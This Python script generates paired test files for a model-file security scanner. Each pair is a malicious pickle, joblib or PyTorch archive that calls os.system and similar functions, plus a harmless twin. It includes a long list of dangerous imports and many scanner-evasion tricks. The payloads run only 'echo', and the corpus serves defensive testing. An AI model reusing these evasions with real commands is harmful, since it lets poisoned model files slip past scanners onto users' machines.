#!/usr/bin/env python3
"""Writes attacks on the loaders of model files, each with a harmless twin that differs in the evil part alone. Nothing
written here is ever loaded; what the attacks would run is `echo`.

usage: make_attacks.py FOLDER

FOLDER/index.tsv has a line a file: name, expectation, rule or "-", format or "-", family. Attacks end in "-bad" and
must be found; twins end in "-good" and must be clean, or, where their format always is left unread in part, "quiet":
without a finding, or "mild": without one above medium.
"""
import base64, bz2, gzip, io, json, lzma, os, pickle, runpy, struct, sys, tarfile, tempfile, warnings, zipfile, zlib

sys.dont_write_bytecode = True
warnings.simplefilter("ignore")
from builders import Folder
from pickles import P2, P4, blob, escaped, glob, shapes, stack_global, text

out = sys.argv[1]
set_of = Folder(out)

# The builders of the other formats are make_models.py's.
with tempfile.TemporaryDirectory() as folder:
    script = os.path.join(os.path.dirname(os.path.abspath(__file__)), "make_models.py")
    sys.argv = [script, folder]
    M = runpy.run_path(script)


def put(name, data, expectation, rule, form, family):
    set_of.put(name, data, expectation, rule, form, family)


def pair(family, name, make, rule="-", form="-", twin="clean"):
    """make(evil): the file, with the attack or without."""
    bad, good = make(True), make(False)
    assert bad != good, name
    put("%s-%s-bad" % (family, name), bad, "found", rule, form, family)
    put("%s-%s-good" % (family, name), good, twin, "-", form, family)


CALL, IMPORT = "pickle-dangerous-call", "pickle-dangerous-import"
SAY = "echo"


def call(evil, module="os", name="system", argument=SAY, proto=P4):
    """One call, without STOP: of os.system, or of a class that counts letters."""
    if not evil:
        module, name = "collections", "Counter"
    if proto == P4:
        return stack_global(module, name) + text(argument) + b"\x85R"
    return glob(module, name) + b"X" + struct.pack("<I", len(argument)) + argument.encode() + b"\x85R"


def one(evil, *args, **kwargs):
    return P4 + call(evil, *args, **kwargs) + b"."


# ---- what to import: functions that run, write, fetch or load, in the library and beyond ----
IMPORTS = """os.system os.popen os.execv os.execvp os.spawnl os.spawnvpe os.posix_spawn os.fork os.kill os.remove os.unlink os.rename
os.putenv os.environ os.chmod os.symlink os.truncate os.fdopen os.startfile os._exit posix.system posix.execve posix.remove nt.system
nt.startfile subprocess.Popen subprocess.run subprocess.call subprocess.check_call subprocess.check_output subprocess.getoutput
subprocess.getstatusoutput _posixsubprocess.fork_exec commands.getoutput popen2.popen3 builtins.eval builtins.exec builtins.compile
builtins.__import__ builtins.open builtins.getattr builtins.setattr builtins.delattr builtins.breakpoint builtins.globals builtins.locals
builtins.vars builtins.map builtins.filter builtins.type builtins.input builtins.__build_class__ __builtin__.eval __builtin__.execfile
__builtin__.apply __builtin__.file __builtin__.reload importlib.import_module importlib.reload importlib.__import__
importlib.machinery.SourceFileLoader importlib.util.spec_from_file_location importlib._bootstrap._call_with_frames_removed imp.load_source
imp.load_dynamic imp.find_module runpy.run_path runpy.run_module runpy._run_code pty.spawn pty.fork pdb.run pdb.runeval pdb.Pdb bdb.Bdb.run
bdb.Bdb.runeval code.interact code.InteractiveInterpreter.runcode code.InteractiveConsole codeop.compile_command timeit.timeit
timeit.main cProfile.run cProfile.runctx profile.run profile.Profile.runctx trace.Trace.run trace.Trace.runctx trace.Trace.runfunc
doctest.debug_script doctest.testsource unittest.main pydoc.pipepager pydoc.tempfilepager pydoc.locate pydoc.safeimport pkgutil.resolve_name
pkgutil.get_data zipimport.zipimporter rlcompleter.Completer.attr_matches site.main site.addsitedir shutil.rmtree shutil.copyfile
shutil.move shutil.make_archive shutil.unpack_archive io.open io.FileIO io.open_code _io.FileIO _io.open _pyio.open tempfile.mktemp
tempfile.NamedTemporaryFile glob.glob fileinput.FileInput linecache.getlines pathlib.Path.write_text pathlib.Path.unlink
zipfile.ZipFile tarfile.open sqlite3.connect dbm.open shelve.open mmap.mmap socket.socket socket.create_connection
ssl.get_server_certificate ssl.SSLContext http.client.HTTPConnection http.client.HTTPSConnection http.server.HTTPServer
urllib.request.urlopen urllib.request.urlretrieve urllib2.urlopen requests.get requests.post requests.sessions.Session.request
httpx.get aiohttp.ClientSession urllib3.PoolManager ftplib.FTP smtplib.SMTP telnetlib.Telnet poplib.POP3 imaplib.IMAP4_stream
nntplib.NNTP xmlrpc.client.ServerProxy socketserver.TCPServer webbrowser.open webbrowser.get antigravity.fly ctypes.CDLL ctypes.cdll.LoadLibrary
ctypes.WinDLL ctypes.pythonapi.PyRun_SimpleString _ctypes.dlopen cffi.FFI multiprocessing.Process multiprocessing.Pool
multiprocessing.util.spawnv_passfds multiprocessing.popen_fork.Popen concurrent.futures.ThreadPoolExecutor threading.Thread
_thread.start_new_thread asyncio.create_subprocess_shell asyncio.create_subprocess_exec asyncio.run asyncio.subprocess.create_subprocess_shell
asyncio.unix_events._UnixSubprocessTransport._start signal.signal atexit.register sched.scheduler pickle.loads pickle.load
pickle.Unpickler _pickle.loads cPickle.loads marshal.loads marshal.load dill.loads dill._dill._create_function cloudpickle.loads
cloudpickle.cloudpickle._make_function cloudpickle.cloudpickle.subimport jsonpickle.decode joblib.load joblib.numpy_pickle.load joblib.Memory joblib.Parallel
types.CodeType types.FunctionType types.ModuleType types.MethodType functools.partial functools.reduce functools.partialmethod
functools.singledispatch operator.attrgetter operator.methodcaller operator.itemgetter operator.call _operator.methodcaller
itertools.starmap itertools.accumulate itertools.takewhile sys.modules sys.exit sys.settrace sys.setprofile sys._getframe gc.get_objects
inspect.getattr_static ast.literal_eval dis.dis string.Formatter weakref.finalize contextlib.ExitStack copyreg.add_extension copyreg.pickle
logging.FileHandler logging.config.listen logging.config.dictConfig logging.config.fileConfig platform.popen ensurepip._run_pip
ensurepip.bootstrap venv.create pip.main pip._internal.main pip._internal.cli.main.main setuptools.setup setuptools.sandbox.run_setup distutils.spawn.spawn
distutils.file_util.write_file distutils.core.run_setup idlelib.run.Executive.runcode idlelib.pyshell.ModifiedInterpreter.runcode
idlelib.autocomplete.AutoComplete.fetch_completions idlelib.calltip.get_entity idlelib.debugobj.ObjectTreeItem.SetText
lib2to3.pgen2.pgen.ParserGenerator.make_label lib2to3.pgen2.grammar.Grammar.loads _aix_support._read_cmd_output
_osx_support._read_output _osx_support._find_build_tool _pyrepl.pager.pipe_pager _pyrepl.pager.tempfile_pager uuid._get_command_stdout
test.support.script_helper.assert_python_ok test.support.run_code crypt.crypt readline.read_init_file resource.setrlimit fcntl.ioctl
compileall.compile_file py_compile.compile cgitb.enable tkinter.Tcl turtle.Turtle getpass.getpass mimetypes.init _xxsubinterpreters.run_string
_interpreters.exec _testcapi.run_in_subinterp numpy.load numpy.fromfile numpy.save numpy.savetxt numpy.loadtxt numpy.genfromtxt numpy.memmap
numpy.vectorize numpy.apply_along_axis numpy.frompyfunc numpy.piecewise numpy.testing._private.utils.runstring numpy.testing.rundocs
numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran.myeval numpy.f2py.diagnose.run_command numpy.f2py.compile numpy.distutils.exec_command.exec_command
numpy.distutils.cpuinfo.getoutput numpy.core._internal._ctypes numpy.lib.npyio.load numpy.ctypeslib.load_library
scipy.io.loadmat scipy.weave.inline pandas.read_pickle pandas.eval pandas.io.pickle.read_pickle pandas.core.computation.eval.eval pandas.io.common.get_handle
sklearn.datasets.load_files sklearn.datasets.fetch_openml sklearn.utils._testing.check_skip_network sklearn.externals.joblib.load
torch.load torch.save torch.hub.load torch.hub.download_url_to_file torch.jit.load torch.jit.unsupported_tensor_ops.execWrapper
torch.jit._script.script torch.utils.cpp_extension.load torch.utils.cpp_extension.load_inline torch.utils.collect_env.run
torch.utils.bottleneck.__main__.run_cprofile torch.utils.bottleneck.__main__.run_autograd_prof torch.utils.model_zoo.load_url
torch.utils._config_module.ConfigModule.load_config torch.utils.data.datapipes.utils.decoder.basichandlers torch._inductor.codecache.compile_file
torch._inductor.codecache.PyCodeCache.load torch._dynamo.guards.GuardBuilder.get torch._dynamo.eval_frame.optimize torch.fx.graph_module._exec_with_source
torch.fx.graph_module.reduce_graph_module torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression
torch.fx._symbolic_trace.Tracer.trace torch.serialization.load torch.ops.load_library torch.ops.load_library torch.package.PackageImporter
torch.distributed.rpc.rpc_sync torch.distributed.init_process_group torch.multiprocessing.spawn torch.cuda.memory._save_memory_usage
torch._C._jit_script_compile torch.library.custom_op torch.storage.UntypedStorage.from_file torch.compile torch.utils.data.DataLoader
tensorflow.io.write_file tensorflow.io.read_file tensorflow.load_op_library tensorflow.keras.models.load_model tensorflow.saved_model.load keras.models.load_model
keras.utils.get_file keras.layers.Lambda keras.saving.deserialize_keras_object jax.numpy.load flax.serialization.msgpack_restore
transformers.AutoModel.from_pretrained transformers.pipelines.pipeline transformers.dynamic_module_utils.get_class_from_dynamic_module huggingface_hub.hf_hub_download
huggingface_hub.snapshot_download diffusers.DiffusionPipeline.from_pretrained mlflow.pyfunc.load_model ray.remote ray.cloudpickle.loads dask.delayed airflow.models.DAG
celery.Celery wandb.init boto3.client paramiko.SSHClient fabric.Connection.run invoke.run pexpect.spawn sh.Command plumbum.local psutil.Popen
yaml.load yaml.unsafe_load ruamel.yaml.YAML jinja2.Template mako.template.Template nltk.data.load nltk.app.concordance sympy.sympify sympy.parsing.sympy_parser.parse_expr
numexpr.evaluate numba.jit IPython.get_ipython IPython.core.interactiveshell.InteractiveShell.run_cell ipykernel.embed.embed_kernel pytest.main
_pytest.config.main hypothesis.given twisted.internet.reactor tornado.template.Template django.core.management.call_command flask.render_template_string
win32api.WinExec win32com.client.Dispatch winreg.SetValueEx matplotlib.pyplot.savefig PIL.Image.open cv2.imread pyautogui.typewrite pynput.keyboard.Listener
fsspec.open s3fs.S3FileSystem gcsfs.GCSFileSystem smart_open.open h5py.File netCDF4.Dataset pyarrow.parquet.read_table polars.read_csv
sqlalchemy.create_engine psycopg2.connect pymysql.connect redis.Redis kafka.KafkaProducer docker.from_env kubernetes.config.load_kube_config
my_package.evil some.deep.module.with.a.name.run collections.abc.evil datetime.evil numpy.evil sklearn.linear_model.evil""".split()
IMPORTS = list(dict.fromkeys(IMPORTS))
HARMLESS = [("collections", "Counter"), ("collections", "deque"), ("builtins", "list"), ("builtins", "set"), ("builtins", "str"), ("builtins", "tuple"), ("builtins", "sorted"), ("builtins", "len"),
            ("builtins", "frozenset"), ("pathlib", "PurePosixPath"), ("builtins", "ord"), ("builtins", "max")]


def of_import(dotted, form):
    """The name is a dotted tail where a class stands in it: protocol 4 walks attributes."""
    parts = dotted.split(".")
    at = next((i for i, p in enumerate(parts[1:-1], 1) if p[:1].isupper() or p in ("cdll", "pythonapi")), len(parts) - 1)
    module, name = ".".join(parts[:at]), ".".join(parts[at:])

    def make(evil):
        m, n = (module, name) if evil else HARMLESS[form % len(HARMLESS)]
        if "." in n:
            return P4 + stack_global(m, n) + text("x") + b"\x85R."
        return list(shapes(m, n, "x"))[form % 34][1]

    return make


FORMS = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 12, 15, 16, 17, 18, 19, 22, 23]
for i, dotted in enumerate(IMPORTS):
    pair("pickle", "import-%03d-%s" % (i, dotted.replace(".", "_")[:60]), of_import(dotted, FORMS[i % len(FORMS)]))
for shape, _ in shapes("os", "system", SAY):
    pair("pickle", "form-" + shape, lambda evil: dict(shapes(*(("os", "system") if evil else ("collections", "Counter")), SAY))[shape], CALL)

# ---- evasions inside one pickle ----
C = call


def evasion(name, make, rule="-", twin="clean", family="pickle"):
    pair(family, "evasion-" + name, make, rule, "-", twin)


evasion("no-stop", lambda e: P4 + C(e), CALL, "unread")
evasion("broken-after", lambda e: P4 + C(e) + b"\xff\xfe\xfd", CALL, "unread")
evasion("truncated-string-after", lambda e: P4 + C(e) + b"0X\xff\xff\xff\x7fabc", CALL, "unread")
evasion("underflow-after", lambda e: P4 + C(e) + b"000.", CALL, "unread")
evasion("memo-missing-after", lambda e: P4 + C(e) + b"h\xc8.", CALL, "unread")
evasion("text-behind", lambda e: one(e) + b"just some text", CALL, "unread")
evasion("result-dropped", lambda e: P4 + C(e) + b"0" + text("nothing") + b".", CALL)
evasion("result-hidden-by-pop-mark", lambda e: P4 + b"(" + C(e) + b"1N.", CALL)
evasion("stop-then-another", lambda e: pickle.dumps({"a": 1}, 4) + one(e), CALL)
evasion("hundred-pickles-then", lambda e: b"N." * 50 + pickle.dumps(1, 2) * 50 + one(e), CALL)
evasion("protocol-0-in-5", lambda e: b"\x80\x05\x95\x04\0\0\0\0\0\0\0NN00" + (b"cos\nsystem\n" if e else b"ccollections\nCounter\n") + b"(S'echo'\ntR.", CALL)
evasion("protocol-twice", lambda e: b"\x80\x02\x80\x04\x80\x00" + C(e) + b".", CALL)
evasion("marks-300", lambda e: b"(" * 300 + (glob("os", "system") if e else glob("collections", "Counter")) + b"(S'echo'\ntR.", CALL)
evasion("int-with-blanks", lambda e: b"I 7\n0L 5L\n0F 1_0.5\n0" + (glob("os", "system") if e else glob("collections", "Counter")) + b"(S'echo'\ntR.", CALL)
evasion("control-characters-first", lambda e: b"V\x01\x02\n0" + (glob("os", "system") if e else glob("collections", "Counter")) + b"(S'echo'\ntR.", CALL)
evasion("names-escaped", lambda e: escaped("os" if e else "collections") + escaped("system" if e else "Counter") + b"\x93(S'echo'\ntR.", CALL)
evasion("names-in-string-escapes", lambda e: (b"S'\\x6fs'\nS'\\163ystem'\n" if e else b"S'\\x63ollections'\nS'\\103ounter'\n") + b"\x93(S'echo'\ntR.", CALL)
evasion("names-from-memo-late", lambda e: P4 + text("os" if e else "collections") + b"\x940" + text("system" if e else "Counter") + b"\x940" + b"N\x940" * 300 + b"h\x00h\x01\x93" + text(SAY) + b"\x85R.", CALL)
evasion("names-in-wrong-order", lambda e: P4 + text("system" if e else "Counter") + b"\x940" + text("os" if e else "collections") + b"\x940h\x01h\x00\x93" + text(SAY) + b"\x85R.", CALL)
evasion("names-by-dup", lambda e: P4 + (text("system") + b"0" if e else text("x") + b"0") + text("os" if e else "collections") + b"2" + b"0" + text("system" if e else "Counter") + b"\x93" + text(SAY) + b"\x85R.", CALL)
evasion("module-is-name", lambda e: P4 + text("code" if e else "array") + b"2\x93" + (b"." if e else text("b") + b"\x85R."), "-")
evasion("memo-key-large", lambda e: P4 + text("os" if e else "collections") + b"r\xf0\xf0\x0f\x000" + text("system" if e else "Counter") + b"r\xf1\xf0\x0f\x000j\xf0\xf0\x0f\x00j\xf1\xf0\x0f\x00\x93" + text(SAY) + b"\x85R.", CALL)
evasion("memo-written-by-put-read-by-binget", lambda e: text("os" if e else "collections") + b"p1\n0" + text("system" if e else "Counter") + b"q\x020" + b"h\x01g2\n\x93(S'echo'\ntR.", CALL)
evasion("memo-of-callable", lambda e: P4 + stack_global("os" if e else "collections", "system" if e else "Counter") + b"\x940N0h\x00" + text(SAY) + b"\x85R.", CALL)
evasion("memo-replaced", lambda e: P4 + stack_global("collections", "Counter") + b"q\x000" + (stack_global("os", "system") if e else stack_global("builtins", "set")) + b"q\x000h\x00" + text(SAY) + b"\x85R.", CALL)
evasion("callable-in-tuple-then-obj", lambda e: P4 + b"(" + stack_global("os" if e else "collections", "system" if e else "Counter") + text(SAY) + b"o0N.", CALL)
evasion("dotted-tail", lambda e: P4 + stack_global("pathlib", "os.system" if e else "PurePosixPath") + text(SAY) + b"\x85R.", CALL)
evasion("dotted-tail-in-torch", lambda e: P4 + stack_global("torch.serialization", "os.system" if e else "_get_layout") + text(SAY) + b"\x85R.", CALL)
evasion("dotted-class", lambda e: P4 + stack_global("collections", "OrderedDict.__subclasses__" if e else "OrderedDict") + b")R.")
evasion("getattr-by-name", lambda e: P4 + stack_global("builtins", "getattr") + stack_global("collections", "Counter") + b")R" + text("__class__" if e else "keys") + b"\x86R.")
evasion("getattr-then-call", lambda e: P4 + stack_global("builtins", "getattr") + stack_global("collections", "Counter") + b")R" + text("update") + b"\x86R" + (text("x") + b"\x85R." if e else b"."), "pickle-untraced-call")
evasion("getattr-handed-on", lambda e: P4 + stack_global("numpy.random._pickle", "__generator_ctor") + text("@pd.x") + (stack_global("builtins", "getattr") + stack_global("pandas.core.frame", "DataFrame") + b")R" + text("eval") + b"\x86R\x86R." if e
        else stack_global("numpy.random._pickle", "__bit_generator_ctor") + b"\x86R."), "pickle-guarded-call")
evasion("name-computed", lambda e: P4 + text("os") + stack_global("builtins", "str") + text("system") + b"\x85R" + (b"\x93." if e else b"\x86."), "pickle-untraced-import")
evasion("extension-code", lambda e: P2 + (b"\x82\x2a" if e else b"K\x2a") + b".", "pickle-extension-code")
evasion("class-patched", lambda e: P4 + stack_global("collections", "OrderedDict") + (b"" if e else b")R") + b"}" + text("x") + b"K\x01sb.", "pickle-patches-import")
evasion("items-on-modules", lambda e: P4 + stack_global("sys", "modules") + text("os") + b"Ns." if e else P4 + b"}" + text("os") + b"Ns.", IMPORT)
evasion("codec-rot13", lambda e: P2 + glob("_codecs", "encode") + text("rpub") + text("rot13" if e else "latin1") + b"\x86R.", "pickle-guarded-call")
evasion("made-not-called", lambda e: P2 + glob("xgboost.core", "Booster") + (text("/tmp/x") + b"\x85R." if e else b")\x81."), "pickle-guarded-call")
evasion("class-of-text", lambda e: P4 + stack_global("collections", "OrderedDict") + (text("echo x") + b"\x85R." if e else b")R."), "pickle-guarded-call")
evasion("frame-straddled", lambda e: b"\x80\x05\x95" + struct.pack("<Q", 5 if e else 26) + b"B" + struct.pack("<I", 20) + b"A" * 20 + b".", "pickle-frame-straddled")
evasion("inst-without-mark", lambda e: P4 + (b"ios\nsystem\n" if e else b"(icollections\nCounter\n") + b".", "-")
evasion("next-buffer-first", lambda e: b"\x80\x05\x97\x98" + C(e) + b"\x86.", CALL)
evasion("binget-of-argument", lambda e: P4 + text(SAY) + b"\x94" + stack_global("os" if e else "collections", "system" if e else "Counter") + b"h\x00\x85R\x86.", CALL)
evasion("newobj-ex-with-words", lambda e: P4 + stack_global("subprocess" if e else "collections", "Popen" if e else "Counter") + b"(t}" + text("shell") + b"\x88s\x92.", CALL)
evasion("build-setstate", lambda e: P4 + stack_global("my_package" if e else "collections", "Thing" if e else "Counter") + b")\x81}" + text("cmd") + text("x") + b"sb.", "-")
evasion("reconstructor", lambda e: glob("copyreg", "_reconstructor") + b"(" + (glob("subprocess", "Popen") if e else glob("collections", "Counter")) + glob("builtins", "object") + b"NtR.", "-")
evasion("set-of-calls", lambda e: P4 + b"\x8f(" + C(e) + b"0K\x01\x90.", CALL)
evasion("reduce-inside-build-state", lambda e: P4 + stack_global("collections", "Counter") + b")\x81}" + text("a") + C(e) + b"sb.", CALL)
evasion("reduce-as-dict-key", lambda e: P4 + b"}" + C(e) + b"0K\x01K\x02s.", CALL)
evasion("persistent-id", lambda e: P4 + C(e) + b"Q.", CALL)
evasion("long-names", lambda e: P4 + b"X" + struct.pack("<I", 2 if e else 11) + (b"os" if e else b"collections") + b"\x8d" + struct.pack("<Q", 6 if e else 7) + (b"system" if e else b"Counter") + b"\x93" + text(SAY) + b"\x85R.", CALL)
evasion("python-2-names", lambda e: glob("__builtin__", "execfile" if e else "set") + b"(S'echo'\ntR.", CALL)
evasion("nested-bytes", lambda e: pickle.dumps({"state": one(e)}, 4), CALL)
evasion("nested-three-deep", lambda e: pickle.dumps([pickle.dumps([pickle.dumps([one(e)])])]), CALL)
evasion("nested-base64", lambda e: pickle.dumps({"state": base64.b64encode(one(e)).decode()}), CALL)
evasion("nested-hex", lambda e: pickle.dumps({"state": one(e).hex()}), CALL)
evasion("nested-zip", lambda e: pickle.dumps({"model": M["archive"]([("m/data.pkl", one(e)), ("m/version", "3")])}), CALL)
evasion("nested-in-protocol-0", lambda e: pickle.dumps({"state": one(e)}, 0), CALL)
evasion("nested-in-load-from-bytes", lambda e: P2 + glob("torch.storage", "_load_from_bytes") + blob(one(e)) + b"\x85R.", CALL)
evasion("after-a-long-string", lambda e: P4 + b"B" + struct.pack("<I", 3 << 20) + bytes(3 << 20) + b"0" + C(e) + b".", CALL)
evasion("after-2-million-opcodes", lambda e: P4 + b"N0" * 1050000 + C(e) + b".", CALL)
evasion("after-2-million-memos", lambda e: P4 + b"N\x940" * 700000 + C(e) + b".", CALL)
evasion("after-2-million-numbers", lambda e: P4 + b"](" + b"K\x01" * 2100000 + C(e) + b"e.", CALL)
evasion("after-2-million-tuples", lambda e: P4 + b"](" + b"K\x01K\x02\x86" * 700000 + C(e) + b"e.", CALL)
evasion("after-2-million-texts", lambda e: P2 + b"](" + b"U\x01a" * 2100000 + call(e, proto=P2) + b"e.", CALL)
evasion("between-2-million-opcodes", lambda e: b"N0" * 600000 + (glob("os", "system") if e else glob("collections", "Counter")) + b"(S'echo'\ntR0" + b"N0" * 600000 + b"N.", CALL)
evasion("names-2-million-opcodes-ago", lambda e: P4 + text("os" if e else "collections") + b"\x940" + text("system" if e else "Counter") + b"\x940" + b"N0" * 1050000 + b"h\x00h\x01\x93" + text(SAY) + b"\x85R.", CALL)


# ---- joblib ----
def wrapped(count, dtype="f8", raw=None, aligned=True):
    body = stack_global("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("subclass") + stack_global("numpy", "ndarray")
    body += text("shape") + b"J" + struct.pack("<i", count) + b"\x85" + text("order") + text("C") + text("dtype") + stack_global("numpy", "dtype") + text(dtype) + b"\x89\x88\x87R"
    body += b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb" + text("allow_mmap") + b"\x88" + (text("numpy_array_alignment_bytes") + b"K\x10" if aligned else b"")
    return body + b"ub" + (b"\x03\xff\xff\xff" if aligned else b"") + (bytes(range(8)) * count if raw is None else raw)


J = "joblib"
pair(J, "before-array", lambda e: P4 + C(e) + b"0" + wrapped(6) + b".", CALL, J)
pair(J, "after-array", lambda e: P4 + wrapped(6) + C(e) + b"\x86.", CALL, J)
pair(J, "after-old-array", lambda e: P4 + wrapped(6, aligned=False) + C(e) + b"\x86.", CALL, J)
pair(J, "after-ten-arrays", lambda e: P4 + b"](" + wrapped(9) * 10 + C(e) + b"e.", CALL, J)
pair(J, "after-large-array", lambda e: P4 + wrapped(300000) + C(e) + b"\x86.", CALL, J)
pair(J, "in-object-array", lambda e: P4 + wrapped(1, "O8", one(e), False) + b".", CALL, J)
pair(J, "in-second-object-array", lambda e: P4 + b"](" + wrapped(1, "O8", pickle.dumps([1]), False) + wrapped(1, "O8", one(e), False) + b"e.", CALL, J)
pair(J, "after-object-array", lambda e: P4 + wrapped(1, "O8", pickle.dumps([1]), False) + C(e) + b"\x86.", CALL, J)
pair(J, "second-pickle", lambda e: P4 + wrapped(6) + b"." + one(e), CALL, J)
for word, pack in (("zlib", zlib.compress), ("gzip", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("lzma", lambda b: lzma.compress(b, lzma.FORMAT_ALONE))):
    pair(J, "packed-" + word, lambda e: pack(P4 + wrapped(60) + C(e) + b"\x86."), CALL)
pair(J, "gzip-second-member", lambda e: gzip.compress((P4 + wrapped(60))) + gzip.compress(C(e) + b"\x86."), CALL)
pair(J, "load-in-array", lambda e: P4 + wrapped(6) + (stack_global("joblib", "load") if e else stack_global("builtins", "len")) + text("x") + b"\x85R\x86.", CALL, J)


# ---- zip, as PyTorch writes it ----
T = "pytorch"
archive = M["archive"]


def torch_zip(e, method=zipfile.ZIP_STORED, top="archive", more=(), data=None):
    return archive([(top + "/data.pkl", one(e) if data is None else data), (top + "/version", "3\n"), (top + "/byteorder", "little"), (top + "/data/0", bytes(64))] + list(more), method)


def patched(b, what, offset, new, nth=0):
    """Bytes changed at `offset` behind the nth signature."""
    at = -1
    for _ in range(nth + 1):
        at = b.index(what, at + 1)
    return b[:at + offset] + new + b[at + offset + len(new):]


LOCAL, CENTRAL, END = b"PK\x03\x04", b"PK\x01\x02", b"PK\x05\x06"
pair("zip", "stored", lambda e: torch_zip(e), CALL, T)
pair("zip", "deflated", lambda e: torch_zip(e, zipfile.ZIP_DEFLATED), CALL, T)
pair("zip", "broken-pickle", lambda e: torch_zip(e, data=one(e)[:-1] + b"\x99\x99"), CALL, T, "unread")
pair("zip", "other-top-folder", lambda e: torch_zip(e, top="my model"), CALL, T)
pair("zip", "second-pickle-entry", lambda e: torch_zip(False, more=[("archive/extra.pkl", one(e))]), CALL, T)
pair("zip", "pickle-named-txt", lambda e: torch_zip(False, more=[("archive/notes.txt", one(e))]), CALL, T)
pair("zip", "pickle-named-as-storage", lambda e: torch_zip(False, more=[("archive/data/7", one(e))]), CALL, T)
pair("zip", "zip-in-zip", lambda e: torch_zip(False, more=[("archive/in.bin", torch_zip(e))]), CALL, T)
pair("zip", "zip-in-zip-in-zip", lambda e: torch_zip(False, zipfile.ZIP_DEFLATED, more=[("archive/in.bin", archive([("b.zip", torch_zip(e, zipfile.ZIP_DEFLATED))]))]), CALL, T)
pair("zip", "gzip-in-zip", lambda e: torch_zip(False, more=[("archive/in.gz", gzip.compress(one(e)))]), CALL, T)
pair("zip", "wrong-crc", lambda e: patched(torch_zip(e), CENTRAL, 16, b"\x01\x02\x03\x04") if e else torch_zip(e), CALL, T)
pair("zip", "flag-encrypted-in-directory", lambda e: patched(torch_zip(e), CENTRAL, 8, b"\x01\x00") if e else torch_zip(e), CALL, T)
pair("zip", "flag-encrypted-in-entry", lambda e: patched(torch_zip(e), LOCAL, 6, b"\x01\x00") if e else torch_zip(e), CALL, T)
pair("zip", "flag-data-descriptor", lambda e: patched(torch_zip(e), LOCAL, 6, b"\x08\x00") if e else torch_zip(e), CALL, T)
pair("zip", "flag-0x20", lambda e: patched(torch_zip(e), CENTRAL, 8, b"\x20\x00") if e else torch_zip(e), CALL, T)
pair("zip", "flag-0x40", lambda e: patched(torch_zip(e), CENTRAL, 8, b"\x40\x00") if e else torch_zip(e), CALL, T)
pair("zip", "local-name-differs", lambda e: patched(torch_zip(e), LOCAL, 30, b"archive/dota.pkl") if e else torch_zip(e), CALL, T)
pair("zip", "local-size-zero", lambda e: patched(torch_zip(e), LOCAL, 18, bytes(8)) if e else torch_zip(e), CALL, T)
pair("zip", "prefix", lambda e: b"\x89PNG\r\n\x1a\n" + bytes(90) + torch_zip(e) if e else torch_zip(e), CALL, T)
pair("zip", "suffix", lambda e: torch_zip(e) + b"behind" if e else torch_zip(e), CALL, T)
pair("zip", "comment", lambda e: torch_zip(e)[:-2] + struct.pack("<H", 9) + b"a comment", CALL, T)
pair("zip", "duplicate-last-evil", lambda e: torch_zip(False, more=[("archive/data.pkl", one(e))] if e else []), CALL, T)
pair("zip", "duplicate-first-evil", lambda e: archive([("archive/data.pkl", one(e))] + ([("archive/data.pkl", one(False))] if e else []) + [("archive/version", "3\n")]), CALL, T)
pair("zip", "path-traversal", lambda e: archive([("../../../x/data.pkl" if e else "x/data.pkl", one(e)), ("x/version", "3")]), CALL)
pair("zip", "hidden-entry", lambda e: (lambda w, h: w[:w.index(CENTRAL)] + h + w[w.index(CENTRAL):])(torch_zip(False), archive([("archive/data.pkl", one(True))])[:90]) if e else torch_zip(False), "zip-hidden-data", T)
pair("zip", "no-torch-at-all", lambda e: archive([("weights.pkl", one(e))]), CALL, "pickle-zip")
pair("zip", "many-entries", lambda e: torch_zip(False, more=[("archive/data/%d" % i, bytes(8)) for i in range(1, 900)] + [("archive/last.pkl", one(e))]), CALL, T)


def zip64(e):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        for name, data in (("archive/data.pkl", one(e)), ("archive/version", b"3\n")):
            with z.open(zipfile.ZipInfo(name), "w", force_zip64=True) as f:
                f.write(data)
    return b.getvalue()


class Stream(io.RawIOBase):
    """Cannot be rewound, so zipfile writes data descriptors."""
    def __init__(self): self.b = b""
    def writable(self): return True
    def write(self, d): self.b += bytes(d); return len(d)


def streamed(e):
    s = Stream()
    with zipfile.ZipFile(s, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", one(e))
        z.writestr("archive/version", "3\n")
    return s.b


pair("zip", "zip64", zip64, CALL, T)
pair("zip", "data-descriptors", streamed, CALL, T)

# ---- PyTorch's old format, TorchScript ----
torch_head = pickle.dumps(0x1950a86a20f9469cfc6c, 2) + pickle.dumps(1001, 2) + pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
O = "pytorch-legacy"
pair("torch-legacy", "object", lambda e: torch_head + P2 + call(e, proto=P2) + b"." + pickle.dumps([], 2), CALL, O)
pair("torch-legacy", "keys", lambda e: torch_head + pickle.dumps({}, 2) + P2 + b"]" + call(e, proto=P2) + b"a.", CALL, O)
pair("torch-legacy", "sys-info", lambda e: pickle.dumps(0x1950a86a20f9469cfc6c, 2) + pickle.dumps(1001, 2) + P2 + call(e, proto=P2) + b"." + pickle.dumps({}, 2) + pickle.dumps([], 2), CALL, O)
pair("torch-legacy", "wrong-magic", lambda e: pickle.dumps(0x1950a86a20f9469cfc6d, 2) + torch_head[15:] + P2 + call(e, proto=P2) + b"." + pickle.dumps([], 2), CALL)
pair("torch-legacy", "magic-by-eval", lambda e: P2 + (glob("builtins", "eval") + text("0x1950a86a20f9469cfc6c") + b"\x85R" if e else b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19") + b"." + pickle.dumps(1001, 2) + pickle.dumps({}, 2) * 2 + pickle.dumps([], 2), CALL)


def script(e, data=None, code="", constants=None):
    return archive([("m/data.pkl", b"\x80\x02c__torch__.net\nNet\n)\x81}b." if data is None else data), ("m/code/__torch__/net.py", "class Net(Module):\n  def forward(self, x):\n    return torch.relu(x)\n" + code),
                    ("m/constants.pkl", b"\x80\x02)." if constants is None else constants), ("m/version", "3\n")])


S = "torchscript"
pair(S, "data", lambda e: script(e, P2 + b"c__torch__.net\nNet\n)\x81}b0" + call(e, proto=P2) + b"."), CALL, S)
pair(S, "constants", lambda e: script(e, constants=P2 + call(e, proto=P2) + b"."), CALL, S)
